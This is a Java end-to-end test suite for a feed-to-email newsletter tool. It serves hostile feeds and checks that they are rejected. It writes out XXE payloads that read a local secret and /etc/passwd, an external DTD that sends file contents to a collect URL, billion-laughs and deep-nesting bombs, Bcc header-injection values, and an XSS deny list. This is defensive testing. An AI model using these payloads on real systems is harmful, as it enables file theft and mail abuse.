package org.newsletter;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;

import com.jayway.jsonpath.JsonPath;
import jakarta.mail.Header;
import jakarta.mail.internet.MimeMessage;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Feeds from the wild in one run: every hostile fixture, external-entity attacks on a local
 * secret, a server that trickles, a 50 MB body, a redirect loop and an {@code ftp:} URL, served
 * beside the good Planet feeds, through the command line to a real SMTP server. The job
 * completes, each bad feed is named with its reason, the digest holds the good content cleaned,
 * no header carries a line break, and no byte of a local file reaches any output.
 */
class HostileFeedsEndToEndTests {

	private static final Path FIXTURES = EndToEnd.fixture("");

	@RegisterExtension
	final EndToEnd e2e = EndToEnd.serving(FIXTURES.resolve("planet/march-20/feeds"));

	@TempDir
	Path elsewhere;

	String secret;

	@BeforeEach
	void start() throws IOException {
		secret = "local-secret-" + UUID.randomUUID();
		Files.writeString(elsewhere.resolve("secret.txt"), secret);
	}

	@Test
	void hostileFeedsBesideGoodOnesInOneRun() throws Exception {
		Map<String, String> bad = serveHostileFeeds();
		List<String> urls = new ArrayList<>(bad.keySet());
		for (String good : List.of("script-injection.xml", "latin1.xml", "mislabelled-utf8.xml", "odd-dates.xml")) {
			urls.add(serve("/hostile/" + good, Files.readAllBytes(FIXTURES.resolve("hostile").resolve(good)),
					"application/rss+xml"));
		}
		writeOpml(urls);
		Files.writeString(e2e.dataDir().resolve("subscribers.csv"),
				"email,name\nada@example.org,Ada\nmallory@example.org,\"Mal\u2028Bcc: name@evil.example\"\n");
		Path templates = Files.createDirectories(elsewhere.resolve("templates"));
		// an operator's subject template that puts feed text and a line break into the Subject
		Files.writeString(templates.resolve("subject.ftl"), "${issue.title}: <#list issue.sources as s>"
				+ "<#if s.name?starts_with('Hostile')><#list s.entries as e>${e.title} / </#list></#if></#list>"
				+ "\nBcc: template@evil.example\n");
		var cli = e2e.cli().with("newsletter.fetch.timeout", "2s")
			.with("newsletter.templates-dir", templates);
		assertThat(cli.run("subscribers", "import", e2e.dataDir().resolve("subscribers.csv").toString()).exitCode()).isZero();

		var run = cli.run("run", "--cutoff=2026-03-21T00:00:00Z");

		assertThat(run.exitCode()).as(run.toString()).isZero();
		assertThat(run.out()).contains("fetch: 25/" + (25 + bad.size()) + " feeds ok, " + bad.size() + " failed",
				"29 entries eligible from 17 sources", "send: 2/2 messages");
		bad.forEach((url, reason) -> assertThat(run.out()).as(run.toString())
			.containsPattern("failed: .*\\(" + java.util.regex.Pattern.quote(url) + "\\): .*" + reason));
		MimeMessage[] received = e2e.smtp().getReceivedMessages();
		assertThat(received).as("one copy per SMTP recipient: an injected Bcc would add one").hasSize(2);
		for (MimeMessage message : received) {
			assertHeadersAreSafe(message);
			assertDigestIsCleanAndComplete(WeeklyDigestEndToEndTests.part(message, "text/html"));
		}
		Path archive = e2e.dataDir().resolve("archive/2026-03-21/index.html");
		assertDigestIsCleanAndComplete(Files.readString(archive));
		assertThat(e2e.feeds().requests()).extracting(FeedServer.Request::path).doesNotContain("/evil.dtd", "/collect");
		assertNoLocalFileLeaked(received, run);
	}

	/**
	 * A feed nested 100,000 elements deep (JDOM's ancestor check made its parse quadratic: the
	 * run hung) and one nested 20,000 deep (a StackOverflowError in Rome), beside good feeds: the run
	 * fails those two with the depth reason, quickly, and sends the good ones.
	 */
	@Test
	@Timeout(value = 30, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
	void deeplyNestedFeedsFailAloneInARun() throws Exception {
		List<String> deep = serveDeepFeeds(20_000);
		writeGoodFeedsAnd(deep);
		Files.writeString(e2e.dataDir().resolve("subscribers.csv"), "email,name\nada@example.org,Ada\n");
		var cli = e2e.cli();
		assertThat(cli.run("subscribers", "import", e2e.dataDir().resolve("subscribers.csv").toString()).exitCode()).isZero();

		var run = cli.run("run", "--cutoff=2026-03-21T00:00:00Z");

		assertThat(run.exitCode()).as(run.toString()).isZero();
		assertThat(run.out()).as(run.toString()).contains("fetch: 3/5 feeds ok, 2 failed", "3 entries eligible from 3 sources");
		deep.forEach(url -> assertThat(run.out()).as(run.toString())
			.containsPattern("failed: .*\\(" + java.util.regex.Pattern.quote(url) + "\\): nested deeper than 256 elements"));
		assertThat(Jsoup.parse(WeeklyDigestEndToEndTests.part(e2e.smtp().getReceivedMessages()[0], "text/html"))
			.select("td.source h2").eachText()).containsExactly("Ari Lamstein", "Marcos Dione", "Mike Driscoll");
	}

	/** The same list through {@code feeds check}: one line per feed, the deep ones failed with the reason. */
	@Test
	@Timeout(value = 30, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
	void deeplyNestedFeedsFailAloneInFeedsCheck() throws Exception {
		List<String> deep = serveDeepFeeds(20_000);
		writeGoodFeedsAnd(deep);

		var check = e2e.cli().run("feeds", "check");

		assertThat(check.exitCode()).as(check.toString()).isEqualTo(1);
		assertThat(check.out()).as(check.toString()).contains("3/5 feeds ok")
			.containsPattern("ok +Ari Lamstein +1 entries")
			.containsPattern("ok +Marcos Dione +1 entries")
			.containsPattern("ok +Mike Driscoll +1 entries");
		deep.forEach(url -> assertThat(check.out()).as(check.toString())
			.containsPattern("failed +" + java.util.regex.Pattern.quote(url) + ": nested deeper than 256 elements"));
		assertThat(check.err()).as(check.toString()).doesNotContain("Exception", "Error", "\tat ");
	}

	/**
	 * With the depth limit lifted, the same kind of feeds: the RSS one outlives the fetch timeout
	 * in the parser, the Atom one overflows the stack. {@code feeds check} still prints every feed's line,
	 * each deep one failed with its reason, and says how many were ok.
	 */
	@Test
	@Timeout(value = 30, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
	void feedsCheckGivesEveryFeedItsLineWhateverTheParseThrows() throws Exception {
		List<String> deep = serveDeepFeeds(10_000);
		writeGoodFeedsAnd(deep);

		var check = e2e.cli().with("newsletter.fetch.max-depth", 1_000_000)
			.with("newsletter.fetch.timeout", "5s")
			.run("feeds", "check");

		assertThat(check.exitCode()).as(check.toString()).isEqualTo(1);
		assertThat(check.out()).as(check.toString()).contains("3/5 feeds ok")
			.containsPattern("failed +" + java.util.regex.Pattern.quote(deep.get(0)) + ": timed out after 5 s")
			.containsPattern("failed +" + java.util.regex.Pattern.quote(deep.get(1)) + ": cannot be processed: .*StackOverflowError");
		assertThat(check.err()).as(check.toString()).doesNotContain("Exception", "\tat ");
	}

	/**
	 * An RSS feed whose item holds elements nested 100,000 deep (700 kB; JDOM's build of it is
	 * quadratic), and an Atom feed whose XHTML content nests {@code atomDepth} divs (its
	 * serialisation by Rome recurses a level per div).
	 */
	private List<String> serveDeepFeeds(int atomDepth) {
		String rss = "<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>Deep</title>"
				+ "<link>https://deep.example/</link><item><title>Down</title><link>https://deep.example/1</link>"
				+ "<x>".repeat(100_000) + "</x>".repeat(100_000) + "</item></channel></rss>";
		String atom = "<?xml version=\"1.0\"?><feed xmlns=\"http://www.w3.org/2005/Atom\"><title>Deeper</title>"
				+ "<id>urn:deeper</id><entry><title>Down</title><id>urn:deeper:1</id><link href=\"https://deeper.example/1\"/>"
				+ "<updated>2026-03-19T00:00:00Z</updated><content type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/xhtml\">"
				+ "<div>".repeat(atomDepth) + "</div>".repeat(atomDepth) + "</div></content></entry></feed>";
		return List.of(serve("/deep-rss.xml", rss.getBytes(StandardCharsets.UTF_8), "application/rss+xml"),
				serve("/deep-atom.xml", atom.getBytes(StandardCharsets.UTF_8), "application/atom+xml"));
	}

	/** Three Planet feeds with one entry each before 2026-03-21, then {@code others}, nameless. */
	private void writeGoodFeedsAnd(List<String> others) throws IOException {
		var opml = new StringBuilder("<opml version=\"2.0\"><body>\n");
		for (String good : List.of("Ari Lamstein:ari-lamstein", "Marcos Dione:marcos-dione", "Mike Driscoll:mike-driscoll")) {
			String[] nameAndFile = good.split(":");
			opml.append("<outline text=\"").append(nameAndFile[0]).append("\" xmlUrl=\"")
				.append(e2e.feeds().url("/feeds/" + nameAndFile[1] + ".xml")).append("\"/>\n");
		}
		others.forEach(url -> opml.append("<outline xmlUrl=\"").append(xml(url)).append("\"/>\n"));
		Files.writeString(e2e.dataDir().resolve("feeds.opml"), opml.append("</body></opml>\n"));
	}

	/** The bad feeds by URL, each with (a pattern of) the reason the summary must give. */
	private Map<String, String> serveHostileFeeds() throws IOException {
		Map<String, String> bad = new LinkedHashMap<>();
		String rejected = "rejected: the feed declares a DOCTYPE";
		bad.put(serveFixture("xxe-file.xml"), rejected);
		bad.put(serveFixture("billion-laughs.xml"), rejected);
		bad.put(serveFixture("truncated.xml"), "malformed XML");
		bad.put(serve("/hostile/not-a-feed.html", Files.readAllBytes(FIXTURES.resolve("hostile/not-a-feed.html")),
				"text/html; charset=utf-8"), "not a feed \\(an HTML page\\); it advertises the feed "
						+ java.util.regex.Pattern.quote(e2e.feeds().url("/feed.xml")));
		String secretUrl = elsewhere.resolve("secret.txt").toUri().toString();
		bad.put(serve("/xxe-general.xml", feed("<!DOCTYPE rss [<!ENTITY s SYSTEM \"" + secretUrl + "\">]>", "&s;"),
				"application/rss+xml"), rejected);
		serve("/collect", new byte[0], "text/plain");
		serve("/evil.dtd", ("<!ENTITY % file SYSTEM \"" + secretUrl + "\"><!ENTITY % all \"<!ENTITY send SYSTEM '"
				+ e2e.feeds().url("/collect") + "?%file;'>\"> %all;").getBytes(StandardCharsets.UTF_8), "application/xml-dtd");
		bad.put(serve("/xxe-parameter.xml", feed("<!DOCTYPE rss [<!ENTITY % dtd SYSTEM \"" + e2e.feeds().url("/evil.dtd")
				+ "\"> %dtd;]>", "&send;"), "application/rss+xml"), rejected);
		e2e.feeds().handle("/trickle.xml", FeedServer.trickle());
		bad.put(e2e.feeds().url("/trickle.xml"), "timed out");
		e2e.feeds().handle("/huge.xml", FeedServer.zeros(50));
		bad.put(e2e.feeds().url("/huge.xml"), "larger than the limit of 10485760 bytes");
		e2e.feeds().handle("/loop.xml", exchange -> {
			exchange.getResponseHeaders().set("Location", "/loop.xml");
			exchange.sendResponseHeaders(302, -1);
		});
		bad.put(e2e.feeds().url("/loop.xml"), "more than 5 redirects");
		bad.put("ftp://127.0.0.1/feed.xml", "unsupported URL scheme 'ftp'");
		return bad;
	}

	private void assertHeadersAreSafe(MimeMessage message) throws Exception {
		assertThat(message.getAllRecipients()).singleElement()
			.extracting(address -> ((jakarta.mail.internet.InternetAddress) address).getAddress())
			.isIn("ada@example.org", "mallory@example.org");
		assertThat(message.getHeader("Bcc")).isNull();
		assertThat(message.getSubject()).startsWith("Planet Python Weekly: ")
			.contains("Subject line Bcc: everyone@evil.example", "Bcc: template@evil.example")
			.doesNotContain("\r", "\n");
		for (Header header : Collections.list(message.getAllHeaders())) {
			assertThat(header.getValue().replace("\r\n\t", "").replace("\r\n ", ""))
				.as(header.getName()).doesNotContain("\r", "\n", "\u2028");
		}
	}

	/** The good entries are all there, in the good sources and the hostile feeds alike, and nothing dangerous is. */
	private static void assertDigestIsCleanAndComplete(String html) {
		List<Map.Entry<String, List<String>>> digest = new ArrayList<>();
		for (Element source : Jsoup.parse(html).select("td.source")) {
			digest.add(Map.entry(source.selectFirst("h2").text(), source.select("h3").eachText()));
		}
		assertThat(digest).hasSize(17)
			.contains(Map.entry("Hostile Markup Blog", List.of("Subject line Bcc: everyone@evil.example",
					"Title with markup & an ampersand")), Map.entry("Odd Dates", List.of("Duplicate guid first")))
			// the honest Latin-1 feed and the one whose Latin-1 bytes are labelled UTF-8
			.containsSubsequence(Map.entry("Café Blog", List.of("Crème brûlée recipes")),
					Map.entry("Café Blog", List.of("Crème brûlée recipes")));
		assertThat(digest.stream().mapToInt(source -> source.getValue().size()).sum()).isEqualTo(29);
		assertThat(html).contains("Visible paragraph one", "Visible paragraph two", "Délicieux")
			.doesNotContain("<script", "javascript:", "onclick", "onerror", "onload", "steal(", "alert(",
					"https://evil.example", "tracker.example", "<iframe", "<form", "<svg", "<object", "lollol");
	}

	/**
	 * Neither the secret file nor a line of /etc/passwd (what xxe-file.xml reads) shows in the
	 * mail, the terminal output or any file of the data directory: archive, database, logs.
	 */
	private void assertNoLocalFileLeaked(MimeMessage[] received, Cli.Result run) throws Exception {
		List<String> needles = new ArrayList<>(List.of(secret));
		Path passwd = Path.of("/etc/passwd");
		if (Files.isReadable(passwd)) {
			Files.readAllLines(passwd).stream().filter(line -> line.length() >= 12).forEach(needles::add);
		}
		List<String> outputs = new ArrayList<>(List.of(run.out(), run.err()));
		for (MimeMessage message : received) {
			var raw = new java.io.ByteArrayOutputStream();
			message.writeTo(raw);
			outputs.add(raw.toString(StandardCharsets.UTF_8));
			outputs.add(WeeklyDigestEndToEndTests.part(message, "text/plain"));
			outputs.add(WeeklyDigestEndToEndTests.part(message, "text/html"));
		}
		List<String> stored = new ArrayList<>();
		try (Stream<Path> files = Files.walk(e2e.dataDir())) {
			for (Path file : files.filter(Files::isRegularFile).toList()) {
				byte[] bytes = Files.readAllBytes(file);
				stored.add(new String(bytes, StandardCharsets.ISO_8859_1));
				stored.add(new String(bytes, StandardCharsets.UTF_16BE));
				stored.add(new String(bytes, StandardCharsets.UTF_16LE));
			}
		}
		// the scan sees what the database keeps: a title stored but never sent (back catalogue)
		assertThat(stored).anyMatch(text -> text.contains("No date at all"));
		outputs.addAll(stored);
		for (String output : outputs) {
			for (String needle : needles) {
				assertThat(output.contains(needle)).as("'%s' leaked", needle).isFalse();
			}
		}
	}

	private static byte[] feed(String doctype, String title) {
		return ("<?xml version=\"1.0\"?>" + doctype + "<rss version=\"2.0\"><channel><title>" + title
				+ "</title><link>https://xxe.example/</link><item><title>" + title
				+ "</title><link>https://xxe.example/1</link></item></channel></rss>").getBytes(StandardCharsets.UTF_8);
	}

	private String serveFixture(String name) throws IOException {
		return serve("/hostile/" + name, Files.readAllBytes(FIXTURES.resolve("hostile").resolve(name)), "application/xml");
	}

	private String serve(String path, byte[] body, String contentType) {
		e2e.feeds().handle(path, exchange -> {
			exchange.getResponseHeaders().set("Content-Type", contentType);
			exchange.sendResponseHeaders(200, body.length);
			exchange.getResponseBody().write(body);
		});
		return e2e.feeds().url(path);
	}

	/** The Planet feeds with their names (from the manifest), then the others, nameless: their own titles show. */
	private void writeOpml(List<String> others) {
		try {
			List<Map<String, Object>> manifest = JsonPath.read(FIXTURES.resolve("planet/manifest.json").toFile(), "$.feeds");
			var opml = new StringBuilder("<opml version=\"2.0\"><body>\n");
			for (Map<String, Object> feed : manifest) {
				opml.append("<outline text=\"").append(xml((String) feed.get("source"))).append("\" xmlUrl=\"")
					.append(e2e.feeds().url("/feeds/" + ((String) feed.get("file")).replace("feeds/", ""))).append("\"/>\n");
			}
			others.forEach(url -> opml.append("<outline xmlUrl=\"").append(xml(url)).append("\"/>\n"));
			Files.writeString(e2e.dataDir().resolve("feeds.opml"), opml.append("</body></opml>\n"));
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	private static String xml(String text) {
		return text.replace("&", "&amp;").replace("\"", "&quot;").replace("<", "&lt;");
	}
}
